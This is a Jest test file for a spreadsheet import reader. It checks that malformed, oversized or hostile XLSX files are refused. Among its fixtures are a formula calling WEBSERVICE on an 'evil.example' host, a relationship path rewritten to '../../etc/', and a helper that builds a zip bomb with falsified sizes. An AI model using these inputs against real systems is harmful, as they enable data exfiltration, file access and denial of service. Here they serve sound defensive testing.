import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { harmless, TooFar, readWorkbook, unzip, zip } from '@commonweal/platform';
import { aWorkbook, cellsOf } from '../testing/imports/register.js';

const sheets = ['Contracts', 'Obligations', 'People'] as const;
const refusal = (code: string) => ({ kind: 'invalid', code, errors: { file: [expect.any(String)] } });

/** A good workbook with one of its files changed. */
async function changed(name: string, change: (xml: string) => string): Promise<Buffer> {
  const parts = unzip(await aWorkbook(cellsOf({})), () => true, 1e7);
  const xml = parts.get(name)?.toString('utf8');
  if (xml === undefined) throw new Error(`There is no ${name}`);
  return zip(parts.set(name, Buffer.from(change(xml))));
}
const inSheet = (from: string | RegExp, to: string) =>
  changed('xl/worksheets/sheet1.xml', (xml) => {
    if (xml.search(from) < 0) throw new Error(`Nothing like ${String(from)} in ${xml.slice(0, 500)}`);
    return xml.replace(from, to);
  });

describe('a workbook', () => {
  it('gives its cells', async () => {
    const { Contracts, People } = await readWorkbook(await aWorkbook(cellsOf({})), sheets);
    expect(Contracts[1]?.slice(0, 2)).toEqual(['C-001', 'Housing repairs']);
    expect(Contracts[1]?.[10]).toBe(1250000.5);
    expect(Contracts[1]?.[11]).toEqual(new Date('2025-04-01'));
    expect(People).toHaveLength(2);
  });

  it('gives the values of formulas', async () => {
    const file = await inSheet(
      /<c r="K2"[^>]*><v>[^<]*<\/v>/,
      '<c r="K2"><f>500+WEBSERVICE("http://evil.example")</f><v>501</v>',
    );
    expect((await readWorkbook(file, sheets)).Contracts[1]?.[10]).toBe(501);
  });

  it('may say that it is huge without being so', async () => {
    const file = await inSheet(/<sheetData>/, '<dimension ref="A1:XFD1048576"/><sheetData>');
    expect((await readWorkbook(file, sheets)).Contracts).toHaveLength(2);
  });

  it.each(['r="XFD1048576"', 'r="A20001"', 'r="CW2"'])('with a cell at %s is refused', async (place) => {
    await expect(readWorkbook(await inSheet('r="A2"', place), sheets)).rejects.toMatchObject(
      refusal('sheet-too-large'),
    );
  });

  it.each([
    'r="&#88;FD1048576"',
    "r='XFD1048576'",
    'r="A2" r="XFD1048576"',
    'x=">" r="XFD1048576"',
    '\u0080r="XFD1048576"',
    'R="A2"',
    'r="a2"',
    'r=""',
    '',
  ])('with a cell that hides its place, %j, is refused', async (place) => {
    await expect(readWorkbook(await inSheet('r="A2"', place), sheets)).rejects.toMatchObject(
      refusal('file-unreadable'),
    );
  });

  it.each(['Sheet1', 'contracts'])('without the sheet but with %s is refused', async (name) => {
    const { Contracts, ...others } = cellsOf({});
    const file = await aWorkbook({ [name]: Contracts, ...others });
    await expect(readWorkbook(file, sheets)).rejects.toMatchObject(refusal('sheet-missing'));
  });

  it('with a broken sheet, cell or table of texts is refused', async () => {
    const files = [
      await inSheet(/<sheetData>/, '<sheetData'),
      await inSheet(/t="s"/, 't="q"'),
      await inSheet(/<v>0<\/v>/, '<v>99999</v>'),
      await changed('xl/sharedStrings.xml', () => ''),
      await changed('xl/workbook.xml', () => '<workbook/>'),
      await changed('xl/_rels/workbook.xml.rels', (xml) => xml.replaceAll('worksheets/', '../../etc/')),
    ];
    for (const file of files)
      await expect(readWorkbook(file, sheets)).rejects.toMatchObject({ kind: 'invalid' });
  });
});

describe('a file', () => {
  it.each<[string, Buffer]>([
    ['text', Buffer.from('Reference,Title\nC-001,Repairs\n')],
    ['nothing but a signature', Buffer.from('PK\u0003\u0004')],
    ['an end without a directory', Buffer.from('504b0506000000000100010000000000ffffff7f0000', 'hex')],
    ['an archive of something else', zip(new Map([['mimetype', Buffer.from('application/epub')]]))],
    ['an empty archive', zip(new Map())],
    ['zeros', Buffer.alloc(10_000)],
  ])('that is %s is refused', async (_, content) => {
    await expect(readWorkbook(content, sheets)).rejects.toMatchObject(refusal('file-unreadable'));
  });

  it('cut short anywhere is refused', async () => {
    const whole = await aWorkbook(cellsOf({}));
    for (let length = 0; length < whole.length; length += 997)
      await expect(readWorkbook(whole.subarray(0, length), sheets)).rejects.toMatchObject({
        kind: 'invalid',
      });
  });

  it('above 5 MB is refused', async () => {
    await expect(readWorkbook(Buffer.alloc(6 * 1024 * 1024), sheets)).rejects.toMatchObject(
      refusal('file-too-large'),
    );
  });

  it('that unpacks to much more than it says is refused before it does', async () => {
    const bomb = withPacked(
      zip(new Map([['xl/workbook.xml', Buffer.from('x')]])),
      deflateRawSync(Buffer.alloc(500e6)),
    );
    expect(bomb.length).toBeLessThan(600_000);
    const before = process.memoryUsage().arrayBuffers;
    await expect(readWorkbook(bomb, sheets)).rejects.toMatchObject(refusal('file-too-large'));
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(100e6);
  });

  it('of very many tags is refused', () => {
    expect(() => harmless('<a/>'.repeat(1e6 + 1))).toThrow(TooFar);
  });
});

/** The archive of one file with other, packed content, of which it says nothing in its sizes. */
function withPacked(archive: Buffer, packed: Buffer): Buffer {
  const name = 'xl/workbook.xml'.length;
  const local = archive.subarray(0, 30 + name);
  const directory = archive.subarray(30 + name + 1);
  local.writeUInt16LE(8, 8);
  directory.writeUInt16LE(8, 10);
  directory.writeUInt32LE(packed.length, 20);
  directory.writeUInt32LE(local.length + packed.length, directory.length - 6);
  return Buffer.concat([local, packed, directory]);
}
